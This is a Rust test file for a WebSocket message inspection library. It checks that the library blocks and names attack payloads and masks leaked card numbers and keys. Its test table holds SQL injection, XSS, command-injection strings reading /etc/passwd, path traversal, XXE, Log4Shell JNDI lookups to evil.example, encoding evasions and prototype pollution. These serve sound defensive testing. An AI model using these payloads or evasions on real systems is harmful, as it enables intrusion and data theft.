//! The rows M1 to M8 of the threat table that one message shows, each as a message and what must come of it. With the
//! inspection switched off every one of them passes, so no row here can hold by itself. (M6, M7, M9 and M12 need more than one
//! message: they stand beside `behaviour`.)

use tidegate_guard::{Direction, Inspector, Kind, Mode, Rules, Verdict};

/// Row, message, rule that blocks it, and where.
const TO_SERVER: &[(&str, &str, &str, &str)] = &[
    ("M1 sqli", r#"{"id":"1' or '1'='1"}"#, "sqli-", "/id"),
    (
        "M1 sqli",
        r#"{"id":"1 UNION/**/SELECT null,version()"}"#,
        "sqli-",
        "/id",
    ),
    (
        "M1 sqli in prose",
        r#"{"text":"x' or 1=1 --"}"#,
        "sqli-",
        "/text",
    ),
    (
        "M1 xss",
        r#"{"name":"<script>alert(1)</script>"}"#,
        "xss-",
        "/name",
    ),
    (
        "M1 xss in prose",
        r#"{"text":"<img src=x onerror=alert(1)>"}"#,
        "xss-",
        "/text",
    ),
    (
        "M1 command",
        r#"{"host":"127.0.0.1; cat /etc/passwd"}"#,
        "command-",
        "/host",
    ),
    (
        "M1 command",
        r#"{"host":"c'a't${IFS}/etc/pass$@wd"}"#,
        "command-",
        "/host",
    ),
    (
        "M1 traversal",
        r#"{"file":["a","../../etc/passwd"]}"#,
        "traversal-",
        "/file/1",
    ),
    (
        "M1 nosql",
        r#"{"user":{"$ne":null}}"#,
        "nosql-key",
        "/user/$ne",
    ),
    (
        "M1 nosql",
        r#"{"q":"'; return true; var x='"}"#,
        "nosql-where",
        "/q",
    ),
    (
        "M1 template",
        r#"{"name":"{{7*7}}"}"#,
        "template-sum",
        "/name",
    ),
    (
        "M1 xxe",
        r#"{"xml":"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"}"#,
        "x",
        "/xml",
    ),
    (
        "M1 log4shell",
        r#"{"agent":"${jndi:ldap://evil.example/a}"}"#,
        "log4shell-jndi",
        "/agent",
    ),
    (
        "M1 log4shell",
        r#"{"agent":"${${lower:j}ndi:ldap://evil.example/a}"}"#,
        "log4shell-",
        "/agent",
    ),
    (
        "M1 in a key",
        r#"{"v":{"<script>alert(1)</script>":1}}"#,
        "xss-",
        "/v/<script>alert(1)<~1script>",
    ),
    ("M1 no JSON", "' or '1'='1", "sqli-", ""),
    (
        "M2 escapes",
        r#"{"id":"\u0031\u0027 or 1=1--"}"#,
        "sqli-",
        "/id",
    ),
    ("M2 URL", r#"{"id":"%31%27%20or%201=1--"}"#, "sqli-", "/id"),
    (
        "M2 URL twice",
        r#"{"id":"%2531%2527%2520or%25201=1--"}"#,
        "sqli-",
        "/id",
    ),
    (
        "M2 entities",
        r#"{"n":"&lt;script&gt;alert(1)&lt;/script&gt;"}"#,
        "xss-",
        "/n",
    ),
    (
        "M2 base64",
        r#"{"f":"Li4vLi4vLi4vZXRjL3Bhc3N3ZA=="}"#,
        "traversal-",
        "/f",
    ),
    (
        "M2 JSON in a string",
        r#"{"d":"{\"a\":[\"admin\\u0027--\"]}"}"#,
        "sqli-",
        "/d»/a/0",
    ),
    (
        "M2 JSON in JSON in a string",
        r#"{"d":"{\"a\":\"{\\\"b\\\":\\\"admin\\\\u0027--\\\"}\"}"}"#,
        "sqli-",
        "/d»/a»/b",
    ),
    (
        "M2 fullwidth",
        r#"{"n":"＜ｓｃｒｉｐｔ＞alert(1)"}"#,
        "xss-",
        "/n",
    ),
    (
        "M2 duplicate key",
        r#"{"role":"user","role":"admin"}"#,
        "json-duplicate-key",
        "/role",
    ),
    (
        "M2 duplicate key, spelt otherwise",
        r#"{"role":1,"\u0072ole":2}"#,
        "json-duplicate-key",
        "/role",
    ),
    ("M2 byte order mark", "\u{feff}{}", "json-bom", ""),
    ("M2 lone surrogate", r#"["\ud800"]"#, "json-surrogate", "/0"),
    ("M2 large number", r#"{"n":1e999}"#, "json-number", "/n"),
    ("M2 trailing data", r#"{"a":1}{"b":2}"#, "json-syntax", ""),
    (
        "M3",
        r#"{"__proto__":{"admin":true}}"#,
        "prototype-key",
        "/__proto__",
    ),
    (
        "M3",
        r#"{"constructor":{"prototype":{"a":1}}}"#,
        "prototype-key",
        "/constructor/prototype",
    ),
    (
        "M3 in a text",
        r#"{"path":"a.__proto__.b"}"#,
        "prototype-",
        "/path",
    ),
];

fn inspector(mode: Mode) -> Inspector {
    Inspector::new(&Rules::with_mode(mode)).unwrap()
}

#[test]
fn what_attacks_is_blocked_and_named() {
    let mut inspector = inspector(Mode::Block);
    let mut fail = Vec::new();
    for (row, message, rule, pointer) in TO_SERVER {
        let verdict = inspector.inspect(Direction::ToServer, Kind::Text, message.as_bytes());
        let holds = match &verdict {
            Verdict::Block(finding) => {
                let code = if finding.family == "json" { 1007 } else { 1008 };
                finding.rule.starts_with(rule)
                    && finding.pointer == *pointer
                    && finding.close.get() == code
            }
            _ => false,
        };
        if !holds {
            println!("{row}: {message}: {verdict:?}");
            fail.push(*row);
        }
    }
    all_hold(&fail, TO_SERVER.len());
}

/// What came clean is remembered; what did not, and what would not be clean elsewhere, is looked at each time.
#[test]
fn m1_the_same_text_again_has_the_same_verdict() {
    let mut inspector = inspector(Mode::Monitor);
    let mut found = |message: &str| -> Vec<String> {
        match inspector.inspect(Direction::ToServer, Kind::Text, message.as_bytes()) {
            Verdict::Monitor(findings) => findings.into_iter().map(|f| f.pointer).collect(),
            _ => Vec::new(),
        }
    };
    for _ in 0..3 {
        assert_eq!(
            found(r#"["id","1 or 1=1","room","1 or 1=1"]"#),
            ["/1", "/3"]
        );
        assert_eq!(found(r#"{"text":"drop table users"}"#), [""; 0]);
        assert_eq!(found(r#"{"id":"drop table users"}"#), ["/id"]);
        assert_eq!(found(r#"{"room":"room"}"#), [""; 0]);
    }
}

/// Says how many rows of a table fail, so that it can be told whether all do (`cargo xtask guard-mutants`).
fn all_hold(fail: &[&str], rows: usize) {
    let count = fail.len();
    assert!(
        fail.is_empty(),
        "rows that fail: {count} of {rows}: {}",
        fail.join(", ")
    );
}

#[test]
fn switched_off_every_row_passes_and_in_monitor_too_with_findings() {
    let (mut off, mut monitor) = (inspector(Mode::Off), inspector(Mode::Monitor));
    for (row, message, ..) in TO_SERVER {
        let passed = off.inspect(Direction::ToServer, Kind::Text, message.as_bytes());
        assert_eq!(passed, Verdict::Pass, "{row}");
        let told = monitor.inspect(Direction::ToServer, Kind::Text, message.as_bytes());
        assert!(matches!(told, Verdict::Monitor(_)), "{row}: {told:?}");
    }
    for (row, message, ..) in LEAKS {
        let passed = off.inspect(Direction::ToClient, Kind::Text, message.as_bytes());
        assert_eq!(passed, Verdict::Pass, "{row}");
    }
}

#[test]
fn the_opcode_changes_no_verdict_and_findings_hold_no_payload() {
    let mut inspector = inspector(Mode::Monitor);
    for (row, message, ..) in TO_SERVER {
        let text = inspector.inspect(Direction::ToServer, Kind::Text, message.as_bytes());
        let binary = inspector.inspect(Direction::ToServer, Kind::Binary, message.as_bytes());
        assert_eq!(text, binary, "{row}");
        let Verdict::Monitor(findings) = text else {
            panic!("{row}")
        };
        for finding in findings.iter().filter(|finding| !finding.in_key) {
            let told = format!("{}{}{}", finding.rule, finding.pointer, finding.why);
            assert!(
                !told.contains("passwd") && !told.contains("alert"),
                "{row}: {told}"
            );
        }
    }
}

#[test]
fn innocent_messages_pass() {
    let mut inspector = inspector(Mode::Block);
    for message in [
        r#"{"type":"chat","text":"don't you think it's 5 or 6 o'clock?"}"#,
        r#"{"type":"chat","text":"SELECT id, name FROM users WHERE id = 5;"}"#,
        r#"{"type":"chat","text":"<button onclick=\"save()\">Save</button>"}"#,
        r#"{"type":"chat","text":"cd app && npm install; ls -la ../../src"}"#,
        r#"{"type":"chat","text":"{{ user.name }} has ${count} items"}"#,
        r#"{"type":"chat","text":"AT&amp;T is 100 % \"fine\""}"#,
        r#"{"type":"order","side":"sell","qty":0.5,"price":"61234.50","id":"7f9c2ba4e88f827d"}"#,
        r#"{"t":"state","players":[{"id":1,"name":"O'Neill","pos":[1.5,-2e3]}]}"#,
        "hello there",
        "",
        "[]",
    ] {
        let verdict = inspector.inspect(Direction::ToServer, Kind::Text, message.as_bytes());
        assert_eq!(verdict, Verdict::Pass, "{message}");
    }
}

/// M8: row, message from the server, what passes when it is masked.
const LEAKS: &[(&str, &str, &str)] = &[
    (
        "M8 card",
        r#"{"n":"card 4111 1111 1111 1111"}"#,
        r#"{"n":"card **** **** **** 1111"}"#,
    ),
    (
        "M8 card as a number",
        r#"{"n":4111111111111111,"m":1}"#,
        r#"{"n":"************1111","m":1}"#,
    ),
    (
        "M8 escaped",
        r#"{"n":"\u0034111111111111111\n\"x\""}"#,
        r#"{"n":"************1111\n\"x\""}"#,
    ),
    (
        "M8 key",
        r#"["AKIAIOSFODNN7EXAMPLE"]"#,
        r#"["********************"]"#,
    ),
    (
        "M8 no JSON",
        "pay 378282246310005 now",
        "pay ***********0005 now",
    ),
    (
        "M8 trace",
        r#"{"e":"Traceback (most recent call last):\n  File \"/a.py\", line 1, in f"}"#,
        "",
    ),
];

#[test]
fn what_should_not_leave_is_masked_or_blocked() {
    let masking = Rules::default().set("leak", Mode::Mask);
    let mut masking = Inspector::new(&masking).unwrap();
    let mut blocking = inspector(Mode::Block);
    let mut fail = Vec::new();
    for (row, message, masked) in LEAKS {
        let verdict = masking.inspect(Direction::ToClient, Kind::Text, message.as_bytes());
        let blocked = blocking.inspect(Direction::ToClient, Kind::Text, message.as_bytes());
        let Verdict::Replace(octets, findings) = verdict else {
            println!("{row}: {verdict:?}");
            fail.push(*row);
            continue;
        };
        let text = String::from_utf8(octets).expect("text stays text");
        if !masked.is_empty() {
            assert_eq!(text, *masked, "{row}");
        }
        let still = masking.inspect(Direction::ToClient, Kind::Text, text.as_bytes());
        assert_eq!(still, Verdict::Pass, "{row}: {text}");
        assert_eq!(findings[0].family, "leak", "{row}");
        assert!(matches!(blocked, Verdict::Block(_)), "{row}");
        let other_way = blocking.inspect(
            Direction::ToServer,
            Kind::Text,
            b"{\"n\":\"4111111111111111\"}",
        );
        assert_eq!(other_way, Verdict::Pass, "clients may send card numbers");
    }
    all_hold(&fail, LEAKS.len());
    let fine = br#"{"id":1700000000123,"order":"1234-5678-9012-3456","t":"look at line 3"}"#;
    assert_eq!(
        masking.inspect(Direction::ToClient, Kind::Text, fine),
        Verdict::Pass
    );
}

#[test]
fn m10_binary_messages_can_be_refused() {
    let rules = Rules::default().set("binary", Mode::Block);
    let mut inspector = Inspector::new(&rules).unwrap();
    let verdict = inspector.inspect(Direction::ToServer, Kind::Binary, b"\x01\x02");
    assert!(matches!(verdict, Verdict::Block(finding) if finding.close.get() == 1003));
    let text = inspector.inspect(Direction::ToServer, Kind::Text, b"hello");
    assert_eq!(text, Verdict::Pass);
}

#[test]
fn r12_inspection_has_a_budget_and_says_when_it_is_spent() {
    let mut inspector = inspector(Mode::Block);
    let deep = "[".repeat(10_000) + &"]".repeat(10_000);
    let keys: String = (0..2_000).map(|key| format!("\"{key}\":0,")).collect();
    let nodes = format!("[{}1]", "1,".repeat(20_000));
    for (message, rule) in [
        (deep, "json-depth"),
        (format!("{{{keys}\"x\":0}}"), "json-keys"),
        (nodes, "json-nodes"),
        (format!("{{\"{}\":0}}", "k".repeat(300)), "json-key-length"),
    ] {
        let verdict = inspector.inspect(Direction::ToServer, Kind::Text, message.as_bytes());
        assert!(
            matches!(&verdict, Verdict::Block(finding) if finding.rule == rule),
            "{rule}: {verdict:?}"
        );
    }
    let costly = r#"<a onx= "union select' or and && || ;`$({{ ../ "#.repeat(1_400);
    let small = Rules {
        budget: 1 << 18,
        ..Rules::with_mode(Mode::Monitor)
    }
    .set("overlimit", Mode::Block);
    let mut small = Inspector::new(&small).unwrap();
    let verdict = small.inspect(Direction::ToServer, Kind::Text, costly.as_bytes());
    assert!(
        matches!(&verdict, Verdict::Block(finding) if finding.rule == "overlimit"),
        "{verdict:?}"
    );
    let parens = "(".repeat(64 << 10);
    let verdict = inspector.inspect(Direction::ToServer, Kind::Text, parens.as_bytes());
    assert_eq!(verdict, Verdict::Pass, "within the budget");
}

#[test]
fn a_rules_own_mode_counts_more_than_its_familys() {
    let rules = Rules::with_mode(Mode::Off)
        .set("sqli", Mode::Block)
        .set("sqli-break", Mode::Off);
    let mut inspector = Inspector::new(&rules).unwrap();
    let mut blocks = |text: &str| {
        let verdict = inspector.inspect(Direction::ToServer, Kind::Text, text.as_bytes());
        matches!(verdict, Verdict::Block(_))
    };
    assert!(blocks("1 union select null"));
    assert!(!blocks("admin' and substring(name,1,1)='a"));
    assert!(!blocks("<script>alert(1)</script>"));
    for (name, mode) in [("sqly", Mode::Block), ("sqli", Mode::Mask)] {
        let fault = Inspector::new(&Rules::default().set(name, mode)).err();
        assert!(fault.expect(name).to_string().contains(name));
    }
}

#[cfg(feature = "schema")]
#[test]
fn m4_and_m5_messages_keep_to_their_schema() {
    use tidegate_guard::{SchemaRules, Schemas};
    let schema = r#"{"type":"object","properties":{"type":{},"text":{"type":"string"}},"required":["text"]}"#;
    let rules = SchemaRules {
        discriminator: Some("/type".to_owned()),
        types: [("chat".to_owned(), schema.to_owned())].into(),
        default: None,
        strict: true,
    };
    let schemas = Schemas::default()
        .with(Direction::ToServer, &rules)
        .unwrap();
    let mut inspector = inspector(Mode::Block).with_schemas(schemas);
    for (message, pointer) in [
        (r#"{"type":"chat"}"#, Some("")),
        (r#"{"type":"chat","text":1}"#, Some("/text")),
        (r#"{"type":"none","text":"x"}"#, Some("/type")),
        (r#"{"type":"chat","text":"x","role":"admin"}"#, Some("")),
        (r#"{"type":"chat","text":"x"}"#, None),
    ] {
        match (
            inspector.inspect(Direction::ToServer, Kind::Text, message.as_bytes()),
            pointer,
        ) {
            (Verdict::Pass, None) => {}
            (Verdict::Block(finding), Some(pointer)) => {
                assert_eq!(
                    (finding.rule, finding.pointer.as_str()),
                    ("schema", pointer),
                    "{message}"
                );
                assert_eq!(finding.close.get(), 1007);
            }
            (other, _) => panic!("{message}: {other:?}"),
        }
    }
    let back = inspector.inspect(Direction::ToClient, Kind::Text, b"[]");
    assert_eq!(back, Verdict::Pass);
}
